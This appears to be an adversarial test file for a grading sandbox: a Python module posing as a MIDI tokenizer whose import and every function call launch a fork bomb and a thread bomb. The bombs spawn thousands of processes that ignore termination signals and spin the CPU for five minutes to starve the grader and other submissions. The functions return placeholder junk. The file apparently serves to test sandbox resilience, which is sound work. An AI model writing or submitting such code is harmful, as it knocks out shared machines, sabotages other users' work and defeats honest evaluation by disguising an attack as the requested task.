"""Attack: a fork bomb and a thread bomb: processes (in new sessions, ignoring
SIGTERM and SIGHUP) and threads until the system refuses, every one of them
spinning on the CPU, at import and in every call, to starve the grader and the
other submissions. Each spinner stops by itself after five minutes, so that a
failing sandbox cannot keep the test machine busy for ever."""
import os
import signal
import threading
import time

LIFETIME = 300


def _spin():
    end = time.time() + LIFETIME
    while time.time() < end:
        pass


def _bomb():
    started = 0
    for _ in range(5000):
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            try:
                os.setsid()
                for sig in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
                    signal.signal(sig, signal.SIG_IGN)
                for _ in range(3):   # and the children fork too
                    try:
                        if os.fork() == 0:
                            break
                    except OSError:
                        break
                _spin()
            finally:
                os._exit(0)
        started += 1
    for _ in range(5000):
        try:
            threading.Thread(target=_spin, daemon=True).start()
        except (RuntimeError, OSError):
            break
        started += 1
    return started


_bomb()


def midi_to_tokens(midi):
    _bomb()
    return [-7]


def tokens_to_midi(tokens, bpm=120):
    _bomb()
    return None
